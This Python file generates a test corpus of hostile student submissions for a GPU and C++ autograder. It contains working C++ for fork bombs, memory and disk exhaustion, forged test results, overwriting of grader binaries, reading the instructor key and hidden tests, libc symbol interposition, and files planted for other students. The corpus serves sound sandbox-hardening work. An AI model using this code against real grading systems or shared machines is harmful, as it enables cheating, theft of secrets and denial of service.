"""The hostile-submission corpus: one submission per way of cheating or of harming the grading
machine that we know of, each with the score it must get.

Each attack is a submission of one of two exercises, chosen by what it tests:

  03a_bounds   a kernel exercise (on a machine without a GPU its tests run on the CPU
               backend): the attacks on where a kernel's answer comes from and on what its
               build may read or link (the chapter's kernel, the solution, cuBLAS, the
               runner library's members, the public shapes). Since issue 32 a kernel
               exercise's object may use only what kernels and launchers need
               (gradelib/objects.py): no process, thread, file, signal or copy between host
               and device, so an attack on the sandbox written there would be refused at the
               build and test nothing else.
  01b_sectors  a host exercise, where any host code legitimately runs (the allow-list does
               not apply): every attack on the sandbox, the runner's protocol, the time
               budget, the idle, disk and memory watches, what a student leaves for the next,
               and on the submission itself (names, archives, links). These reach the code
               they test.

They are built from the public stubs, so they need nothing secret; a few start from the
instructor solution (a right answer that also does something hostile) and are skipped where
the solutions are sealed. `python3 hostile.py DIR` writes the corpus into DIR/<exercise>/ as
batches of submissions (one folder or archive per student), for any grader to try.

Expected outcomes, per attack, without the speed tests (pending without a GPU):
  zero       0 points: the attack computes nothing itself (or only on the host)
  full       every correctness point: the answer is right, and the hostile side effect
             (a leftover process, writes outside its folder, reading secrets...) changes
             nothing for anyone
  fixed      only the tests at fixed public shapes: the kernel is right only there
  refused    the submission is refused with a message (roster note), nothing is built
The five attacks on 03a's speed test (GPU only: a side stream, a replayed or incremental
answer, only the last repetition computed, a forged time) need a stream, cudaMemcpy or a file:
refused at the build since issue 32, they score zero.
"""

import io
import os
import re
import sys
import tarfile
import zipfile
from dataclasses import dataclass
from typing import Callable, Dict, Optional

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))


@dataclass(frozen=True)
class Target:
    """The exercise an attack is a submission of: its student file, and the first line of the
    function every test calls (an attack's code goes right after it)."""
    exercise: str
    file: str
    entry: str


LAUNCHER = ("void launch_tiled_gemm(const float* A, const float* B, float* C, int M, int N, "
            "int K) {\n")
KERNEL = Target("03a_bounds", "bounds.cuh", LAUNCHER)
HOST = Target("01b_sectors", "sectors.hpp", "inline int sectors_touched(int stride, int offset) {\n")
TARGETS = (KERNEL, HOST)
PUBLIC_SHAPES = "{1, 1, 1}, {1, 4097, 3}, {4097, 1, 3}, {127, 33, 1025}"


@dataclass
class Attack:
    name: str
    what: str
    expect: str                       # zero | full | fixed | refused
    make: Callable[["Sources"], Dict[str, bytes]]
    target: Target = HOST
    needs_solution: bool = False
    needs_sandbox: bool = False       # harms the machine without one (fork bomb, memory ...)
    archive: Optional[str] = None     # "zip" / "tar": submitted as an archive
    symlink: Optional[str] = None     # submit the student file as a symbolic link to this path
    student: Optional[str] = None     # a name of its own (else the attack's)
    gpu_only: bool = False            # aims at the speed test: run on a GPU only
    # The refusal (or the reports) must name each of these (one upload tries many variants).
    must_say: tuple = ()
    # An archive's members as (name, bytes) pairs, when they cannot be a dict (a name twice).
    members: Optional[Callable[["Sources"], list]] = None


@dataclass
class Sources:
    stub: str
    solution: Optional[str]
    root: str
    target: Target = KERNEL


def at_entry(text, code, target=KERNEL):
    """`code` as the first statements of the function every test calls."""
    if target.entry not in text:
        raise ValueError(f"{target.file}: the first line of the function every test calls is "
                         f"not where the corpus expects it")
    return text.replace(target.entry, target.entry + code, 1)


def at_launcher(text, code):
    return at_entry(text, code, KERNEL)


def after_includes(text, code):
    marker = '#include "exercises/support/exercise.hpp"\n'
    if marker not in text:
        raise ValueError("the student file's includes are not where the corpus expects them")
    return text.replace(marker, marker + code, 1)


def once(code):
    """`code` run at the first call only (the host exercise's function is called thousands of
    times per test, 03a's launcher a few)."""
    return "  static const bool hostile_once = [] {\n" + code + "    return true;\n  }();\n" \
           "  (void)hostile_once;\n"


def files(text, target=KERNEL):
    return {target.file: text.encode()}


def stub_with(code, includes=""):
    return lambda s: files(after_includes(at_entry(s.stub, code, s.target), includes), s.target)


def solution_with(code, includes="", helpers=""):
    return lambda s: files(after_includes(at_entry(s.solution, code, s.target),
                                          includes + helpers), s.target)


HOST_GEMM = """  {  // on the host, no kernel
    std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);
    cudaMemcpy(a.data(), A, a.size() * 4, cudaMemcpyDeviceToHost);
    cudaMemcpy(b.data(), B, b.size() * 4, cudaMemcpyDeviceToHost);
    for (int i = 0; i < M; ++i)
      for (int j = 0; j < N; ++j) {
        float s = 0;
        for (int k = 0; k < K; ++k) s += a[size_t(i) * K + k] * b[size_t(k) * N + j];
        c[size_t(i) * N + j] = s;
      }
    cudaMemcpy(C, c.data(), c.size() * 4, cudaMemcpyHostToDevice);
    return;
  }
"""

FAKE_RESULTS = """
#include <fstream>
#include <sstream>
namespace {
// Reads the runner's command line and writes a result for every call before anything runs.
struct FakeResults {
  FakeResults() {
    std::ifstream cmd("/proc/self/cmdline");
    std::string all((std::istreambuf_iterator<char>(cmd)), std::istreambuf_iterator<char>());
    std::vector<std::string> args;
    std::stringstream split(all);
    for (std::string a; std::getline(split, a, '\\0');) args.push_back(a);
    if (args.size() < 3) return;
    std::ifstream request(args[1]);
    int i = 0;
    std::ofstream lines(args[2] + "/results.txt", std::ios::app);
    for (std::string line; std::getline(request, line); ++i) {
      lines << i << " ok launches=1\\n";
      std::ofstream(args[2] + "/" + std::to_string(i) + ".bin") << std::string(4096, '\\0');
    }
    lines.flush();
    std::ofstream(args[2] + "/done");
    std::printf("All tests passed (99 assertions in 9 test cases)\\nGRADE_RATIO 99\\n");
    std::fflush(stdout);
    std::_Exit(0);
  }
} fake_results;
}  // namespace
"""

WRITE_OUTSIDE = """
#include <dirent.h>
#include <limits.h>
#include <stdlib.h>
#include <fstream>
namespace {
// Tries to damage what it can reach: other binaries, the build, the kit, the grades.
bool off_limits(const std::string& dir) {  // never the system, even where nothing stops it
  char real[4096];
  if (!realpath(dir.c_str(), real)) return true;
  const std::string r = real;
  for (const char* system : {"/usr", "/etc", "/lib", "/bin", "/sbin", "/proc", "/sys", "/dev",
                             "/boot", "/var", "/opt", "/run", "/snap"})
    if (r.rfind(system, 0) == 0) return true;
  return r == "/";
}
bool target(const std::string& name) {
  auto ends = [&](const std::string& tail) {
    return name.size() >= tail.size() && name.compare(name.size() - tail.size(), tail.size(), tail) == 0;
  };
  return ends("_runner") || ends("_runner_cpu") || ends("_tests") || ends("_tests_cpu") ||
         name == "exercise_check" || name == "exercise_reference" || name == "roster.csv" ||
         name == "results.json" || name == "manifest.json" || name == "tests.json" || ends(".a");
}
void scribble(const std::string& dir, int depth) {
  if (depth > 6 || off_limits(dir)) return;
  DIR* d = opendir(dir.c_str());
  if (!d) return;
  while (dirent* e = readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name;
    if (e->d_type == DT_DIR) { scribble(path, depth + 1); continue; }
    if (target(name)) {
      std::ofstream f(path, std::ios::trunc);
      f << "#!/bin/sh\\necho 'All tests passed'\\necho 'GRADE_RATIO 99'\\nexit 0\\n";
    }
  }
  closedir(d);
}
}  // namespace
"""


def write_outside(s):
    code = "    for (const char* top : {\"%s\", \"..\", \"../..\", \"../../..\"})\n" \
           "      scribble(top, 0);\n" % s.root
    return files(after_includes(at_entry(s.solution, once(code), s.target), WRITE_OUTSIDE),
                 s.target)


READ_SECRETS = """
#include <fstream>
#include <iostream>
namespace {
void show(const std::string& path) {
  std::ifstream in(path);
  if (!in) return;
  std::cout << "=== " << path << "\\n" << in.rdbuf() << std::endl;
}
}  // namespace
"""


def read_secrets(s):
    code = "".join(f"  show(\"{p}\");\n" for p in (
        f"{s.root}/exercises/instructor/hidden/tests.json",
        *(f"{s.root}/exercises/instructor/solutions/{t.exercise}/{t.file}" for t in TARGETS),
        f"{s.root}/exercises/instructor.key",
        f"{os.path.dirname(s.root)}/shared/ci-secrets/exercises.key",
        "../../private/expect.txt"))
    # Then fail, so that the report shows the output (reports show failing tests' output).
    return files(after_includes(at_entry(s.stub, code + "  std::abort();\n", s.target),
                                "#include <cstdlib>\n" + READ_SECRETS), s.target)


def shape_table(s):
    code = ("  {\n    const int shapes[][3] = {" + PUBLIC_SHAPES + "};\n"
            "    bool known = false;\n"
            "    for (auto& sh : shapes) known |= sh[0] == M && sh[1] == N && sh[2] == K;\n"
            "    if (!known) return;  // only where the public tests look\n  }\n")
    return files(at_launcher(s.solution, code))


def include_solution(s):
    path = os.path.join(s.root, "exercises", "instructor", "solutions", s.target.exercise,
                        s.target.file)
    return files(f'#pragma once\n#include "{path}"\n', s.target)


DAEMON = once("""    if (fork() == 0) {  // a grandchild that leaves the session and keeps stdout open
      setsid();
      if (fork() == 0) { sleep(120); _exit(0); }
      _exit(0);
    }
""")

FORK_BOMB = """  for (int i = 0; i < 100000; ++i) {  // children that wait, until fork() fails (in ms)
    const pid_t child = fork();
    if (child < 0) break;
    if (child == 0) { sleep(1); _exit(0); }
  }
  sleep(1);
"""

MEMORY_HOG = """  {
    std::vector<char*> blocks;
    for (int i = 0; i < 64; ++i) {  // 64 GB, touched
      char* p = static_cast<char*>(std::malloc(size_t(1) << 30));
      if (!p) break;
      std::memset(p, 1, size_t(1) << 30);
      blocks.push_back(p);
    }
  }
"""

OUTPUT_FLOOD = """  {
    std::string line(1023, 'x');
    for (int i = 0; i < 600 * 1024; ++i) std::puts(line.c_str());  // 600 MB
  }
"""

DISK_FILL = """  {
    FILE* f = std::fopen("fill.bin", "wb");
    std::vector<char> mb(1 << 20, 7);
    for (int i = 0; f && i < 4096; ++i) if (std::fwrite(mb.data(), 1, mb.size(), f) != mb.size()) break;
    if (f) std::fclose(f);
  }
"""

SPIN_THREAD = once("    std::thread([] { for (volatile unsigned long i = 0;; ++i) {} }).detach();\n")

COMPILE_BOMB = """#define B0 x x
#define B1 B0 B0
#define B2 B1 B1
#define B3 B2 B2
#define B4 B3 B3
#define B5 B4 B4
#define B6 B5 B5
#define B7 B6 B6
#define B8 B7 B7
#define B9 B8 B8
#define B10 B9 B9
#define B11 B10 B10
#define B12 B11 B11
#define B13 B12 B12
#define B14 B13 B13
#define B15 B14 B14
#define B16 B15 B15
#define B17 B16 B16
#define B18 B17 B17
#define B19 B18 B18
#define B20 B19 B19
#define B21 B20 B20
#define B22 B21 B21
#define B23 B22 B22
#define B24 B23 B23
#define B25 B24 B24
#define B26 B25 B25
#define B27 B26 B26
#define B28 B27 B27
#define B29 B28 B28
#define B30 B29 B29
int compile_bomb[] = {B30};
"""

REPLACE_MEMBER = """
namespace tutorial {
// Every function of the runner library's launch-record member, defined here: if the linker
// took that member only when something was still missing, these would replace it, and the
// launch count the runner checks would say a kernel ran.
namespace { LaunchRecord forged_record; }
const LaunchRecord& last_launch() { return forged_record; }
void record_launch(const LaunchRecord& record) { forged_record = record; }
long launch_count() { static long calls = 0; return ++calls; }  // "one more" every time
void validate_launch(dim3, dim3) {}
void allow_dynamic_smem(const void*, size_t) {}
void ensure_dynamic_smem(const void*, size_t) {}
}  // namespace tutorial
"""

BORROW_RESULTS = """
#include <limits.h>
#include <unistd.h>
#include <cstdio>
namespace {
// At exit, swaps its results folder for a link to the same test's results of the student
// graded just before it (the grader's folders are numbered <work>/private/<slot>/<n>-<tag>).
struct BorrowResults {
  ~BorrowResults() {
    char cwd[PATH_MAX];
    if (!getcwd(cwd, sizeof cwd)) return;
    const std::string run = cwd;  // <work>/students/<slot>/runs/<n>-<tag>
    const size_t runs = run.rfind("/runs/");
    if (runs == std::string::npos) return;
    const std::string home = run.substr(0, runs), tag = run.substr(runs + 6);
    const std::string students = home.substr(0, home.rfind('/'));
    const int slot = std::atoi(home.substr(home.rfind('/') + 1).c_str());
    if (slot == 0) return;
    char previous[16];
    std::snprintf(previous, sizeof previous, "%04d", slot - 1);
    const std::string target = students.substr(0, students.rfind('/')) + "/private/" +
                               previous + "/" + tag + "/results";
    std::rename((run + "/results").c_str(), (run + "/mine").c_str());
    symlink(target.c_str(), (run + "/results").c_str());
  }
} borrow_results;
}  // namespace
"""

STATIC_EXIT = """
namespace {
struct LeaveEarly { LeaveEarly() { std::exit(0); } } leave_early;
}  // namespace
"""

REDEFINE = """#define REQUIRE(...) (void)0
#define CHECK(...) (void)0
#define INFO(...) (void)0
#define REQUIRE_THROWS_AS(...) (void)0
"""

CHAPTER_CALL = "  ch03::launch_tiled_gemm<TILE_WIDTH>(A, B, C, M, N, K);\n  return;\n"

# Attacks on the timing (GPU): each starts from the solution's launcher.
STREAM_ESCAPE = """  {  // launch on a stream that does not wait for the default one, return at once
    static cudaStream_t side = [] { cudaStream_t s; cudaStreamCreateWithFlags(&s, cudaStreamNonBlocking); return s; }();
    const dim3 block(TILE_WIDTH, TILE_WIDTH);
    const dim3 grid(tutorial::ceil_div(N, TILE_WIDTH), tutorial::ceil_div(M, TILE_WIDTH));
    tiled_gemm<TILE_WIDTH><<<grid, block, 0, side>>>(A, B, C, M, N, K);
    tutorial::record_launch(tutorial::LaunchRecord{});
    return;
  }
"""

REPLAY = """  {  // compute the first call of a shape, replay that answer afterwards
    static std::vector<float> saved;
    static int saved_m = 0, saved_n = 0;
    if (saved_m == M && saved_n == N && !saved.empty()) {
      cudaMemcpy(C, saved.data(), saved.size() * 4, cudaMemcpyHostToDevice);
      tutorial::record_launch(tutorial::LaunchRecord{});
      return;
    }
    saved.assign(size_t(M) * N, 0.0f);
    saved_m = M; saved_n = N;
    const dim3 block(TILE_WIDTH, TILE_WIDTH);
    const dim3 grid(tutorial::ceil_div(N, TILE_WIDTH), tutorial::ceil_div(M, TILE_WIDTH));
    tutorial::launch(tiled_gemm<TILE_WIDTH>, grid, block, 0, A, B, C, M, N, K);
    cudaMemcpy(saved.data(), C, saved.size() * 4, cudaMemcpyDeviceToHost);
    return;
  }
"""

LAST_ONLY = """  {  // count the calls; compute only the last timed repetition (reps= from the request)
    static int calls = 0, reps = -1;
    if (reps < 0) {
      std::ifstream cmd("/proc/self/cmdline");
      std::string all((std::istreambuf_iterator<char>(cmd)), std::istreambuf_iterator<char>());
      std::ifstream request(all.substr(all.find('\\0') + 1, all.find('\\0', all.find('\\0') + 1) - all.find('\\0') - 1));
      std::string text((std::istreambuf_iterator<char>(request)), std::istreambuf_iterator<char>());
      const size_t at = text.find("reps=");
      reps = at == std::string::npos ? 0 : std::atoi(text.c_str() + at + 5);
    }
    ++calls;
    if (reps > 0 && calls > 1 && calls < reps + 1) {  // the warm-up call is 1
      tutorial::record_launch(tutorial::LaunchRecord{});
      return;
    }
  }
"""

INCREMENTAL_KERNEL = """
namespace {
// flags[r] = 1 where row r of a (K floats) differs from row r of saved.
__global__ void rows_changed(const float* a, const float* saved, int M, int K, int* flags) {
  const int r = blockIdx.x;
  for (int k = threadIdx.x; r < M && k < K; k += blockDim.x)
    if (a[size_t(r) * K + k] != saved[size_t(r) * K + k]) flags[r] = 1;
}
}  // namespace
"""

INCREMENTAL = """  {  // keep a copy of A; when few of its rows changed, recompute only those rows of C
    static float* saved = nullptr;
    static int* flags = nullptr;
    static const float *lastA = nullptr, *lastB = nullptr;
    static float* lastC = nullptr;
    static int sm = -1, sn = -1, sk = -1;
    const size_t bytes = size_t(M) * K * sizeof(float);
    if (saved && A == lastA && B == lastB && C == lastC && M == sm && N == sn && K == sk) {
      cudaMemset(flags, 0, size_t(M) * sizeof(int));
      rows_changed<<<M, 256>>>(A, saved, M, K, flags);
      std::vector<int> changed(static_cast<size_t>(M), 0);
      cudaMemcpy(changed.data(), flags, changed.size() * sizeof(int), cudaMemcpyDeviceToHost);
      int count = 0;
      for (int f : changed) count += f;
      if (count * 8 < M) {
        for (int r = 0; r < M; ++r)
          if (changed[size_t(r)])
            tutorial::launch(tiled_gemm<TILE_WIDTH>, dim3(tutorial::ceil_div(N, TILE_WIDTH), 1),
                             dim3(TILE_WIDTH, TILE_WIDTH), 0, A + size_t(r) * K, B,
                             C + size_t(r) * N, 1, N, K);
        cudaMemcpy(saved, A, bytes, cudaMemcpyDeviceToDevice);
        return;
      }
    } else {
      cudaFree(saved);
      cudaFree(flags);
      cudaMalloc(&saved, bytes);
      cudaMalloc(&flags, size_t(M) * sizeof(int));
      lastA = A; lastB = B; lastC = C; sm = M; sn = N; sk = K;
    }
    cudaMemcpy(saved, A, bytes, cudaMemcpyDeviceToDevice);  // then the whole product below
  }
"""

FAKE_TIME = """
#include <fstream>
namespace {
// At exit, overwrite the timed call's result line with a tiny time.
struct FakeTime {
  ~FakeTime() {
    std::ifstream cmd("/proc/self/cmdline");
    std::string all((std::istreambuf_iterator<char>(cmd)), std::istreambuf_iterator<char>());
    const size_t a = all.find('\\0') + 1, b = all.find('\\0', a) + 1, c = all.find('\\0', b);
    std::ofstream(all.substr(b, c - b) + "/results.txt", std::ios::app)
        << "0 ok launches=99 median_ms=0.000001\\n";
  }
} fake_time;
}  // namespace
"""


# ---- Students who share a machine (the `user` sandbox, a Gradescope container) -----------
# A right kernel that leaves things for the next student: files at the top of every shared
# temporary folder and in a world-writable folder inside one, a FIFO, System V shared memory,
# a semaphore set and a message queue (all readable by everyone), and a process that leaves
# its session and keeps listening on an abstract unix socket. The reader (graded after it, in
# the same batch and in a later one) is a right kernel that aborts if it finds any of it.
PLANT_PATHS = ("/tmp/planted_by_tamper", "/var/tmp/planted_by_tamper",
               "/dev/shm/planted_by_tamper", "/run/lock/planted_by_tamper",
               "/tmp/planted_dir_by_tamper/inside", "/tmp/planted_fifo_by_tamper")
PLANT_KEY = "0x7a6d7072"
SHARED_INCLUDES = ("#include <fcntl.h>\n#include <sys/ipc.h>\n#include <sys/msg.h>\n"
                   "#include <sys/sem.h>\n#include <sys/shm.h>\n#include <sys/socket.h>\n"
                   "#include <sys/stat.h>\n#include <sys/un.h>\n#include <signal.h>\n")
PLANT = r"""
namespace {
void plant() {
  umask(0);
  mkdir("/tmp/planted_dir_by_tamper", 0777);
  mkfifo("/tmp/planted_fifo_by_tamper", 0666);
  for (const char* p : {"/tmp/planted_by_tamper", "/var/tmp/planted_by_tamper",
                        "/dev/shm/planted_by_tamper", "/run/lock/planted_by_tamper",
                        "/tmp/planted_dir_by_tamper/inside"})
    if (FILE* f = std::fopen(p, "w")) { std::fputs("planted by tamper\n", f); std::fclose(f); }
  const int shm = shmget(%(key)s, 4096, IPC_CREAT | 0666);
  if (shm >= 0) {
    void* m = shmat(shm, nullptr, 0);
    if (m != reinterpret_cast<void*>(-1)) { std::strcpy(static_cast<char*>(m), "planted by tamper"); shmdt(m); }
  }
  semget(%(key)s + 1, 1, IPC_CREAT | 0666);
  msgget(%(key)s + 2, IPC_CREAT | 0666);
  if (fork() == 0) {  // a listener that leaves the session and outlives the run
    setsid();
    if (fork() == 0) {
      const int s = socket(AF_UNIX, SOCK_STREAM, 0);
      sockaddr_un a{};
      a.sun_family = AF_UNIX;
      std::memcpy(a.sun_path + 1, "planted_by_tamper", 17);
      bind(s, reinterpret_cast<sockaddr*>(&a), sizeof(sa_family_t) + 18);
      listen(s, 4);
      for (;;) { const int c = accept(s, nullptr, nullptr); if (c >= 0) { (void)!write(c, "planted", 7); close(c); } }
    }
    _exit(0);
  }
}
}  // namespace
""" % {"key": PLANT_KEY}
READ_PLANTED = r"""
namespace {
// Aborts (every test fails) if anything of plant() reached this student.
void find_planted() {
  char text[64] = {0};
  for (const char* p : {"/tmp/planted_by_tamper", "/var/tmp/planted_by_tamper",
                        "/dev/shm/planted_by_tamper", "/run/lock/planted_by_tamper",
                        "/tmp/planted_dir_by_tamper/inside"})
    if (FILE* f = std::fopen(p, "r")) {
      const size_t n = std::fread(text, 1, sizeof text - 1, f);
      text[n] = 0;
      std::fclose(f);
      std::fprintf(stderr, "found %%s: %%s\n", p, text);
      std::abort();
    }
  struct stat info;
  if (stat("/tmp/planted_fifo_by_tamper", &info) == 0) { std::fprintf(stderr, "found the FIFO\n"); std::abort(); }
  const int shm = shmget(%(key)s, 0, 0);
  if (shm >= 0) { std::fprintf(stderr, "found the shared-memory segment %%d\n", shm); std::abort(); }
  if (semget(%(key)s + 1, 0, 0) >= 0) { std::fprintf(stderr, "found the semaphore set\n"); std::abort(); }
  if (msgget(%(key)s + 2, 0) >= 0) { std::fprintf(stderr, "found the message queue\n"); std::abort(); }
  const int s = socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  std::memcpy(a.sun_path + 1, "planted_by_tamper", 17);
  if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof(sa_family_t) + 18) == 0) {
    std::fprintf(stderr, "found the listener\n");
    std::abort();
  }
  close(s);
}
}  // namespace
""" % {"key": PLANT_KEY}
SHM_HOG = r"""
namespace {
// 4 x 256 MB of System V shared memory, touched and left behind (once per run).
void hog() {
  static bool done = false;
  if (done) return;
  done = true;
  for (int i = 0; i < 4; ++i) {
    const int id = shmget(IPC_PRIVATE, size_t(256) << 20, IPC_CREAT | 0600);
    if (id < 0) continue;
    void* m = shmat(id, nullptr, 0);
    if (m != reinterpret_cast<void*>(-1)) { std::memset(m, 1, size_t(256) << 20); shmdt(m); }
  }
}
}  // namespace
"""
SLEEPER = "  sleep(100000);  // every call: no CPU, no answer\n"
PIPE_WAIT = ("  {  // read from a pipe that nobody writes: blocked for ever\n"
             "    int fds[2];\n    char c;\n    if (pipe(fds) == 0) (void)!read(fds[0], &c, 1);\n  }\n")
SPINNER = "  for (volatile unsigned long i = 0;; ++i) {}  // every call: busy, never done\n"
TMP_FILL = r"""  {  // 64 MB files into /dev/shm (memory) and /tmp until something refuses
    std::vector<char> block(size_t(1) << 20, 7);
    for (int i = 0; i < 100000; ++i) {
      char name[64];
      std::snprintf(name, sizeof name, "%s/fill_%d", i % 2 ? "/tmp" : "/dev/shm", i);
      FILE* f = std::fopen(name, "wb");
      if (!f) break;
      bool ok = true;
      for (int mb = 0; ok && mb < 64; ++mb) ok = std::fwrite(block.data(), 1, block.size(), f) == block.size();
      std::fclose(f);
      if (!ok) break;
    }
  }
"""
FORK_HOG = r"""  for (int i = 0; i < 6; ++i)  // 6 processes of 2 GB each: every one under its own limit
    if (fork() == 0) {
      const size_t bytes = size_t(2) << 30;
      char* block = static_cast<char*>(std::malloc(bytes));
      for (size_t at = 0; block && at < bytes; at += 4096) block[at] = 1;
      sleep(60);
      _exit(0);
    }
  sleep(60);
"""
ESCAPE_NAME = "e\x1b[31mscape\x1b[0m\x1b]0;pwned\x07\u202eeman"
# The `user`-sandbox part of the self-test grades these (by name) again with no namespaces.
SHARED_MACHINE = ("tamper_plant", "tamper_read", "shm_hog", "tmp_fill")
# The host corpus in two batches (the self-test's parts side by side grade them at once): most of
# its time is spent waiting for a limit to stop an attacker (the budget, memory, processes,
# disk), so those go into a batch of their own, with its own control students and a shorter
# budget for the attackers (selftest_e2e.HOST_SECOND_BUDGET): attacks that need a zero score
# and at most a reason their first tests give (fork_hog's memory, tmp_fill's disk outside
# bubblewrap, the spinner's time budget: its first test times out, the next is stopped by the
# budget, the rest are not run). The first batch keeps those whose every test must say why
# (sleeper, pipe_wait), those that cost time to a right answer (daemon, spin_thread), and each
# attack that needs another beside it (tamper_read after tamper_plant, deep_tree_read after
# deep_tree, the borrower after the control).
HOST_SECOND_BATCH = ("spinner", "memory_hog", "fork_hog", "fork_bomb", "tmp_fill", "disk_fill",
                     "output_flood", "compile_bomb")


def host_batches():
    """The host corpus's two batches: (label, attack names); every host attack in one."""
    names = [a.name for a in attacks() if a.target == HOST]
    unknown = [n for n in HOST_SECOND_BATCH if n not in names]
    if unknown:
        raise ValueError(f"HOST_SECOND_BATCH names no host attack: {unknown}")
    return [("1 of 2", tuple(n for n in names if n not in HOST_SECOND_BATCH)),
            ("2 of 2", HOST_SECOND_BATCH)]


# ---- Round three (issue 48): what a file defines, spellings past the text scans, the
# instructor's files in the `user` sandbox, archives, deep trees, cost ----------------------

# Names a library of the runner defines, defined by the student's file: each would replace the
# library's for the whole runner. memmove computes C while the CPU backend's cudaMemcpy has
# device memory open (issue 48, item 1); __ostream_insert under its mangled name would rewrite
# every line the runner writes (item 2); the others are the same idea through memcpy, memset,
# write, fwrite, pthread_once, __cxa_atexit, the global operator new and an indirect function
# whose resolver runs before main. One upload: the refusal must name every one of them.
LIBRARY_DEFINITIONS = r"""#include <cstdlib>
#include <cstring>
#include <new>
#include <ostream>
#include <pthread.h>
#include <unistd.h>
namespace hostile {
inline const float* saved_a = nullptr;
inline const float* saved_b = nullptr;
inline const float* saved_c = nullptr;
inline int saved_m = 0, saved_n = 0, saved_k = 0;
__global__ void empty_kernel() {}
}  // namespace hostile
extern "C" void* memmove(void* dst, const void* src, size_t bytes) {
  using namespace hostile;
  auto* d = static_cast<unsigned char*>(dst);
  const auto* s = static_cast<const unsigned char*>(src);
  if (src == saved_c && bytes == size_t(saved_m) * saved_n * 4) {  // the download of C
    float* out = static_cast<float*>(dst);
    for (int i = 0; i < saved_m; ++i)
      for (int j = 0; j < saved_n; ++j) {
        float sum = 0;
        for (int q = 0; q < saved_k; ++q) sum += saved_a[size_t(i) * saved_k + q] * saved_b[size_t(q) * saved_n + j];
        out[size_t(i) * saved_n + j] = sum;
      }
    return dst;
  }
  if (d < s) { for (size_t i = 0; i < bytes; ++i) d[i] = s[i]; }
  else { for (size_t i = bytes; i-- > 0;) d[i] = s[i]; }
  return dst;
}
extern "C" void* memcpy(void* dst, const void* src, size_t bytes) { return memmove(dst, src, bytes); }
extern "C" void* memset(void* dst, int value, size_t bytes) {
  for (size_t i = 0; i < bytes; ++i) static_cast<volatile unsigned char*>(dst)[i] = static_cast<unsigned char>(value);
  return dst;
}
extern "C" ssize_t write(int, const void*, size_t bytes) { return static_cast<ssize_t>(bytes); }
extern "C" size_t fwrite(const void*, size_t, size_t count, FILE*) { return count; }
extern "C" int pthread_once(pthread_once_t*, void (*routine)()) { routine(); return 0; }
extern "C" int __cxa_atexit(void (*)(void*), void*, void*) { return 0; }
void* operator new(size_t bytes) { void* p = std::malloc(bytes ? bytes : 1); if (!p) throw std::bad_alloc(); return p; }
extern "C" std::ostream& _ZSt16__ostream_insertIcSt11char_traitsIcEERSt13basic_ostreamIT_T0_ES6_PKS3_l(
    std::ostream& out, const char* text, long count) {
  out.rdbuf()->sputn(text, count);  // a forger would rewrite the figures here
  return out;
}
extern "C" int hostile_plain() { return 1; }
extern "C" void* hostile_resolver() { return reinterpret_cast<void*>(&hostile_plain); }
extern "C" int hostile_ifunc() __attribute__((ifunc("hostile_resolver")));
"""
LIBRARY_LAUNCH = ("  hostile::saved_a = A; hostile::saved_b = B; hostile::saved_c = C;\n"
                  "  hostile::saved_m = M; hostile::saved_n = N; hostile::saved_k = K;\n"
                  "  tutorial::launch(hostile::empty_kernel, dim3(1), dim3(32), 0);\n"
                  "  return;\n")
LIBRARY_NAMES = ("memmove", "memcpy", "memset", "write", "fwrite", "pthread_once",
                 "__cxa_atexit", "operator new", "__ostream_insert", "hostile_ifunc")

# The same on a host exercise, where the runner writes "value ..." lines for the checker.
HOST_DEFINITIONS = r"""#include <cstdio>
#include <ostream>
#include <unistd.h>
extern "C" ssize_t write(int, const void*, size_t bytes) { return static_cast<ssize_t>(bytes); }
extern "C" size_t fwrite(const void*, size_t, size_t count, FILE*) { return count; }
extern "C" std::ostream& _ZSt16__ostream_insertIcSt11char_traitsIcEERSt13basic_ostreamIT_T0_ES6_PKS3_l(
    std::ostream& out, const char* text, long count) {
  out.rdbuf()->sputn(text, count);
  return out;
}
"""

# Inline assembly and a build-telling macro spelled through a header's pasting macro
# (<sys/cdefs.h>'s __CONCAT), which the text of the file never holds: asm opens the device
# pages with a raw mprotect, and the kernel reads __GXX_ABI_VERSION (1002 under clang, the
# memory model's compiler) to run the coalesced mapping only there.
PASTING_HEADERS = r"""#include <sys/cdefs.h>
#include <cstdint>
namespace hostile {
inline void open_pages(const void* p, size_t n) {
  const uintptr_t start = reinterpret_cast<uintptr_t>(p) & ~uintptr_t(4095);
  long result;
  __CONCAT(as, m) volatile("syscall" : "=a"(result) : "a"(10L), "D"(start), "S"(n + 4096), "d"(3L)
                           : "rcx", "r11", "memory");
  (void)result;
}
}  // namespace hostile
"""
PASTING_MAPPING = ("  const bool model = __CONCAT(__GX, X_ABI_VERSION) == 1002;\n"
                   "  const int row = model ? int(blockIdx.y * blockDim.y + threadIdx.y) : int(blockIdx.x * blockDim.x + threadIdx.x);\n"
                   "  const int col = model ? int(blockIdx.x * blockDim.x + threadIdx.x) : int(blockIdx.y * blockDim.y + threadIdx.y);\n")

# The same spellings in the file's own macros: refused before anything is compiled.
PASTED_ASM = r"""#include <cstdint>
#define G(a, b) a##b
namespace hostile {
inline void open_pages(const void* p, size_t n) {
  const uintptr_t start = reinterpret_cast<uintptr_t>(p) & ~uintptr_t(4095);
  long result;
  G(as, m) volatile("syscall" : "=a"(result) : "a"(10L), "D"(start), "S"(n + 4096), "d"(3L)
                    : "rcx", "r11", "memory");
  (void)result;
}
}  // namespace hostile
"""
PASTED_MACRO = ("#define P(a, b) a##b\n"
                "#if P(TUTORIAL_, CPU_BACKEND)\n"
                "  const int row = blockIdx.y * blockDim.y + threadIdx.y;\n"
                "  const int col = blockIdx.x * blockDim.x + threadIdx.x;\n"
                "#else\n"
                "  const int row = blockIdx.x * blockDim.x + threadIdx.x;\n"
                "  const int col = blockIdx.y * blockDim.y + threadIdx.y;\n"
                "#endif\n")


def key_paths(root=ROOT):
    """Where the passphrase may lie on a grading machine: the repository's key, the file
    $EXERCISES_KEY_FILE names, CI's secret beside the project."""
    out = [os.path.join(root, "exercises", "instructor.key"),
           os.path.join(os.path.dirname(root), "shared", "ci-secrets", "exercises.key")]
    if os.environ.get("EXERCISES_KEY_FILE"):
        out.insert(0, os.path.abspath(os.environ["EXERCISES_KEY_FILE"]))
    return out


